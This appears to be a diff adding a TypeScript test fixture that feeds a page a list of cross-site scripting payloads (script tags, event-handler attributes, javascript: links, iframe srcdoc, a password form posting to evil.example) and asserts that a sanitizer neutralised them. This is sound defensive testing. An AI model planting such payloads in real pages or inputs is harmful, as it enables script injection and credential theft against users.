@@ -1,0 +1,23 @@
+import type { Page } from 'playwright-core'
+import { expect } from 'vitest'
+
+/** Sets `window.pwned` by every way markup has. */
+export const attack = [
+  '<script>window.pwned = 1</script>',
+  '<img src=x onerror="window.pwned = 2">',
+  '<svg onload="window.pwned = 3"></svg>',
+  '<a href="javascript:window.pwned = 4" id="location">link</a>',
+  '<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>',
+  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
+  '<style>body { display: none }</style>',
+  '<details open ontoggle="window.pwned = 6">x</details>',
+  '<p>harmless text</p>',
+].join('\n')
+
+/** Nothing of `attack` had its way. */
+export const isUntouched = async (page: Page): Promise<void> => {
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+  expect(await page.locator('[href^="javascript:" i], iframe[srcdoc]').count()).toBe(0)
+  expect(await page.locator('main form, footer form, main style, footer style').count()).toBe(0)
+  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
+}
